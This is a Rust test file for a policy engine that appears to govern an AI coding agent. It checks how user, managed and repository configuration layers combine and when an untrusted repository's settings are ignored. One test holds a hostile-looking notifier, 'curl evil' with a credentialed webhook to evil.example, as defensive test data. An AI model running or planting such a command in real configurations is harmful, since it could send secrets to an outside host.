//! Tests how layers are joined, and helpers for the tests of the sections.

use jackline_engine::definition::{
    CompletionRequirement, DeclaredTool, OpaquePolicy, Rule, RuleEffect, RuleScope, Rules,
    ShellSettings, UnknownTools,
};
use jackline_engine::expr::Expr;
use jackline_engine::{Definition, Mode, ToolKind};

use super::*;

pub(crate) fn user(definition: Definition) -> LayerDefinition {
    LayerDefinition { layer: Layer::User, file: "user.yaml".to_owned(), definition, modes: vec![] }
}

pub(crate) fn managed(definition: Definition) -> LayerDefinition {
    LayerDefinition {
        layer: Layer::Managed,
        file: "managed.yaml".to_owned(),
        definition,
        modes: vec![],
    }
}

pub(crate) fn repository(definition: Definition) -> LayerDefinition {
    LayerDefinition {
        layer: Layer::Repository,
        file: "jackline.yaml".to_owned(),
        definition,
        modes: vec![],
    }
}

pub(crate) fn untrusted(high: &Definition, low: &Definition) -> CombinedDefinition {
    combine(vec![user(high.clone()), repository(low.clone())], false)
}

pub(crate) fn trusted(high: &Definition, low: &Definition) -> CombinedDefinition {
    combine(vec![user(high.clone()), repository(low.clone())], true)
}

pub(crate) fn load_definition(source: &str) -> Definition {
    crate::load(source.as_bytes(), "f").unwrap()
}

pub(crate) fn rule(name: &str, effect: RuleEffect) -> Rule {
    Rule {
        name: name.to_owned(),
        origin: "f".to_owned(),
        scope: RuleScope::Kind(ToolKind::Exec),
        commands: vec!["git push".to_owned()],
        when: None,
        effect,
        mode: Mode::Enforce,
        message: "no".to_owned(),
        instead: None,
    }
}

pub(crate) fn rules(mode: Mode, list: &[Rule]) -> Definition {
    let list = list.iter().map(|rule| Rule { mode, ..rule.clone() }).collect();
    Definition { mode, rules: Rules::new(list), ..Definition::default() }
}

pub(crate) fn tools(list: &[DeclaredTool]) -> Definition {
    Definition { tools: list.to_vec(), ..Definition::default() }
}

pub(crate) fn condition(text: &str) -> Expr {
    crate::cel::parse_condition(text).unwrap()
}

pub(crate) fn command(line: &str, number: u16, trusted: bool) -> CompletionRequirement {
    CompletionRequirement::Command { number, line: line.to_owned(), timeout_seconds: 60, trusted }
}

pub(crate) fn completing(checker: CompletionRequirement) -> Definition {
    Definition { completion: Some(checker), ..Definition::default() }
}

/// Returns the ignored demands as text.
pub(crate) fn ignored(combined: &CombinedDefinition) -> Vec<String> {
    let line = |line: &DemandLine| match &line.status {
        DemandStatus::InForce => None,
        DemandStatus::Ignored { why, until_trusted } => {
            let trust = if *until_trusted { "; trust would allow it" } else { "" };
            Some(format!("{} ignored: {why}{trust}", line.text))
        }
    };
    combined.decisions.iter().filter_map(line).collect()
}

pub(crate) fn in_force(
    combined: &CombinedDefinition,
    subject: DemandSubject,
) -> Vec<(String, Layer)> {
    let lines = combined
        .decisions
        .iter()
        .filter(|line| line.status == DemandStatus::InForce && line.subject == subject);
    lines.map(|line| (line.text.clone(), line.layer)).collect()
}

#[test]
fn one_layer_alone_stays_unchanged() {
    let definition = load_definition(
        "name: acme/coder\nmode: observe\nlimits: { steps: 3 }\nfeedback_bytes_max: 9\n\
         sections: [ { name: a, tools: [x, y], policies: [ sequential_dependency: { x: [y] } ] } ]\n\
         completion: { files: [a] }\njournal: { redact: off, retain_days: 2 }\n",
    );
    for layer in [user, managed, repository] {
        for trust in [false, true] {
            let combined = combine(vec![layer(definition.clone())], trust);
            assert_eq!(combined.definition, definition);
            assert_eq!((ignored(&combined), combined.problems), (vec![], vec![]));
        }
    }
    assert_eq!(combine(Vec::new(), false).definition, Definition::default());
}

/// A setting of two layers, and the value in force.
struct SettingRow {
    high: &'static str,
    low: &'static str,
    is: &'static str,
    ignored: &'static str,
    trusted: &'static str,
}

#[test]
fn the_stricter_setting_wins_unless_the_repository_is_trusted() {
    let rows = [
        SettingRow {
            high: "limits: { steps: 9 }",
            low: "mode: observe\nlimits: { wall_seconds: 9 }",
            is: "limits: { steps: 9, wall_seconds: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would allow it",
            trusted: "mode: observe\nlimits: { steps: 9, wall_seconds: 9 }",
        },
        SettingRow {
            high: "limits: { steps: 9 }",
            low: "mode: observe",
            is: "limits: { steps: 9 }",
            ignored: "`mode: observe` ignored: the user layer enforces; trust would allow it",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        // A demand that only the lower layer has keeps the mode of the lower layer.
        SettingRow {
            high: "",
            low: "mode: observe\nlimits: { steps: 9 }",
            is: "mode: observe\nlimits: { steps: 9 }",
            ignored: "",
            trusted: "mode: observe\nlimits: { steps: 9 }",
        },
        SettingRow {
            high: "mode: observe\nlimits: { steps: 9 }",
            low: "limits: { steps: 5 }",
            is: "limits: { steps: 5 }",
            ignored: "",
            trusted: "limits: { steps: 5 }",
        },
        SettingRow {
            high: "limits: { steps: 5 }",
            low: "limits: { steps: 9 }",
            is: "limits: { steps: 5 }",
            ignored: "at most 9 steps per session ignored: the user layer already has one, and this one is not stricter; trust would allow it",
            trusted: "limits: { steps: 9 }",
        },
        // A smaller limit that only warns, or that restarts in each turn, is not stricter.
        SettingRow {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, soft: true } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps per session, soft ignored: the user layer already has one, and this one is not stricter; trust would allow it",
            trusted: "limits: { steps: { max: 5, soft: true } }",
        },
        SettingRow {
            high: "limits: { steps: 9 }",
            low: "limits: { steps: { max: 5, per: turn } }",
            is: "limits: { steps: 9 }",
            ignored: "at most 5 steps per turn ignored: the user layer already has one, and this one is not stricter; trust would allow it",
            trusted: "limits: { steps: { max: 5, per: turn } }",
        },
        SettingRow {
            high: "completion: { files: [a] }\ncompletion_cap: { blocks: 9, same: 9 }",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 9, same: 9 }",
            ignored: "`completion_cap: at most 1 blocked stops per turn, 1 with the same text` ignored: the user layer has its own value; trust would allow it",
            trusted: "completion: { all: [ files: [a], files: [b] ] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        // A default of the higher layer is not a demand.
        SettingRow {
            high: "name: dana/all",
            low: "completion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            is: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
            ignored: "",
            trusted: "name: dana/all\ncompletion: { files: [b] }\ncompletion_cap: { blocks: 1, same: 1 }",
        },
        SettingRow {
            high: "name: dana/all\nfeedback_bytes_max: 10",
            low: "name: acme/coder\nfeedback_bytes_max: 20",
            is: "name: acme/coder\nfeedback_bytes_max: 10",
            ignored: "`feedback_bytes_max: 20` ignored: the user layer has a smaller limit; trust would allow it",
            trusted: "name: acme/coder\nfeedback_bytes_max: 20",
        },
        SettingRow {
            high: "journal: { retain_days: 2 }",
            low: "journal: { redact: off, retain_days: 5, retain_bytes: 1 }",
            is: "journal: { retain_days: 5 }",
            ignored: "`journal.redact: off` ignored: the user layer demands the removal of secrets; trust would allow it",
            trusted: "journal: { retain_days: 5 }",
        },
        SettingRow {
            high: "feedback: [ { static: hello, every_n_calls: 2 } ]",
            low: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            is: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
            ignored: "",
            trusted: "feedback: [ { static: hello, every_n_calls: 2 }, { static: bye, every_n_calls: 3 } ]",
        },
    ];
    for SettingRow { high, low, is, ignored: expected, trusted: with_trust } in rows {
        let (high, low) = (load_definition(high), load_definition(low));
        let combined = untrusted(&high, &low);
        assert_eq!(combined.definition, load_definition(is), "{is}");
        assert_eq!(ignored(&combined).join("\n"), expected, "{is}");
        assert_eq!(
            trusted(&high, &low).definition,
            load_definition(with_trust),
            "trusted {with_trust}"
        );
    }
}

#[test]
fn the_strictest_setting_for_unknown_tools_and_opaque_lines_wins() {
    let strict = Definition {
        unknown_tools: UnknownTools::Deny,
        shell: ShellSettings { opaque: OpaquePolicy::Ask },
        ..Definition::default()
    };
    let lax = Definition::default();
    let both = |combined: CombinedDefinition| {
        (combined.definition.unknown_tools, combined.definition.shell.opaque)
    };
    assert_eq!(both(untrusted(&strict, &lax)), (UnknownTools::Deny, OpaquePolicy::Ask));
    assert_eq!(both(untrusted(&lax, &strict)), (UnknownTools::Deny, OpaquePolicy::Ask));
    let middle = Definition { unknown_tools: UnknownTools::Client, ..Definition::default() };
    assert_eq!(both(untrusted(&strict, &middle)), (UnknownTools::Deny, OpaquePolicy::Ask));
    assert_eq!(both(untrusted(&middle, &lax)), (UnknownTools::Client, OpaquePolicy::Allow));
    assert_eq!(both(trusted(&strict, &lax)), (UnknownTools::Allow, OpaquePolicy::Allow));
    assert_eq!(
        ignored(&untrusted(&strict, &lax)),
        [
            "`unknown_tools: allow` ignored: the user layer denies them; trust would allow it",
            "`shell.opaque: allow` ignored: the user layer demands more; trust would allow it"
        ]
    );
}

#[test]
fn a_rule_keeps_the_mode_of_its_layer() {
    let high = rules(Mode::Enforce, &[rule("a", RuleEffect::Deny)]);
    let low = rules(Mode::Observe, &[rule("b", RuleEffect::Deny)]);
    let modes = |combined: CombinedDefinition| -> Vec<(String, Mode)> {
        combined.definition.rules.iter().map(|rule| (rule.name.clone(), rule.mode)).collect()
    };
    let (a, b) = ("a".to_owned(), "b".to_owned());
    assert_eq!(
        modes(untrusted(&high, &low)),
        [(a.clone(), Mode::Enforce), (b.clone(), Mode::Observe)]
    );
    // A trusted file overrides the mode, except for rules that the person enforces by name.
    assert_eq!(
        modes(trusted(&high, &low)),
        [(a.clone(), Mode::Observe), (b.clone(), Mode::Observe)]
    );
    let high = LayerDefinition { modes: vec![(a.clone(), Mode::Enforce)], ..user(high) };
    let combined = combine(vec![high, repository(low)], true);
    assert_eq!(modes(combined), [(a, Mode::Enforce), (b, Mode::Observe)]);
}

#[test]
fn a_repository_in_mode_observe_does_not_switch_off_a_rule() {
    let high = rules(Mode::Enforce, &[rule("a", RuleEffect::Deny)]);
    let low = load_definition("mode: observe\nlimits: { steps: 9 }");
    // The rule is enforced by its own mode. Only the repository demands the limit.
    let combined = untrusted(&high, &low);
    assert_eq!((combined.definition.mode, ignored(&combined)), (Mode::Observe, vec![]));
    assert_eq!(combined.definition.rules, high.rules);
    let high = Definition { feedback: load_definition(GUIDANCE).feedback, ..high };
    let combined = untrusted(&high, &low);
    assert_eq!(combined.definition.mode, Mode::Enforce);
    assert_eq!(
        ignored(&combined),
        ["`mode: observe` ignored: the user layer enforces; trust would allow it"]
    );
    assert_eq!(trusted(&high, &low).definition.mode, Mode::Observe);
}

pub(crate) const GUIDANCE: &str = "feedback: [ { static: Look., every_n_calls: 3 } ]";

#[test]
fn all_notifiers_are_used_and_an_untrusted_repository_runs_nothing() {
    let high = load_definition("notify: { command: beep, on: [ask] }");
    let low = load_definition(
        "notify: { command: curl evil, webhook: 'https://a:b@evil.example/secret' }",
    );
    let trusts = |combined: &CombinedDefinition| {
        combined.definition.notify.iter().map(|notifier| notifier.trusted).collect::<Vec<_>>()
    };
    let notifiers = |combined: &CombinedDefinition| -> Vec<String> {
        let lines = combined.decisions.iter().filter(|line| line.subject == DemandSubject::Notify);
        lines.map(|line| line.text.clone()).collect()
    };
    let (combined, with_trust) = (untrusted(&high, &low), trusted(&high, &low));
    assert_eq!((trusts(&combined), trusts(&with_trust)), (vec![true, false], vec![true, true]));
    assert_eq!(
        notifiers(&combined),
        [
            "notifies a person by `beep` about ask",
            "notifies a person by `curl evil` and by https://evil.example about ask, pause, stop, done, guard_broken (not run until trusted)"
        ]
    );
    // A notifier that the person also has needs no trust.
    assert_eq!(trusts(&untrusted(&high, &high)), [true]);
}

#[test]
fn trust_overrides_the_person_but_not_the_owner_of_the_machine() {
    let (owner, person) =
        (load_definition("limits: { steps: 50 }"), load_definition("limits: { steps: 20 }"));
    let wish = load_definition("mode: observe\nlimits: { steps: 90 }");
    let layers = || vec![repository(wish.clone()), managed(owner.clone()), user(person.clone())];
    assert_eq!(combine(layers(), false).definition, person);
    let combined = combine(layers(), true);
    assert_eq!(combined.definition, owner);
    assert_eq!(
        ignored(&combined),
        [
            "`mode: enforce` ignored: the repository layer overrides it, and its file is trusted",
            "at most 20 steps per session ignored: the repository layer overrides it, and its file is trusted",
            "`mode: observe` ignored: the managed layer enforces",
            "at most 90 steps per session ignored: the managed layer already has one, and this one is not stricter",
        ]
    );
    // A person can't loosen what the owner of the machine demands.
    let combined = combine(vec![managed(person.clone()), user(owner.clone())], true);
    assert_eq!(combined.definition, person);
}

#[test]
fn each_demand_is_reported_with_its_layer() {
    let of_pack = Rule { origin: "pack git".to_owned(), ..rule("git/push", RuleEffect::Ask) };
    let high =
        Definition { protected: vec!["keys/".to_owned()], ..rules(Mode::Enforce, &[of_pack]) };
    let low = load_definition("name: acme/coder\nlimits: { steps: 3 }\ncompletion: { files: [a] }");
    let lines = untrusted(&high, &low).decisions;
    let shown: Vec<String> = lines
        .iter()
        .map(|line| {
            let origin = line.origin.as_deref().unwrap_or("-");
            format!("{} | {} | {} {}", line.subject.as_str(), line.text, line.file, origin)
        })
        .collect();
    assert_eq!(
        shown,
        [
            "setting | name: acme/coder | jackline.yaml -",
            "setting | mode: enforce | jackline.yaml -",
            "setting | completion_cap: at most 5 blocked stops per turn, 3 with the same text | jackline.yaml -",
            "limit | at most 3 steps per session | jackline.yaml -",
            "protected | `keys/` | user.yaml -",
            "completion | a | jackline.yaml -",
            "rule | `git/push` asks a person about `git push` | user.yaml pack git",
        ]
    );
}
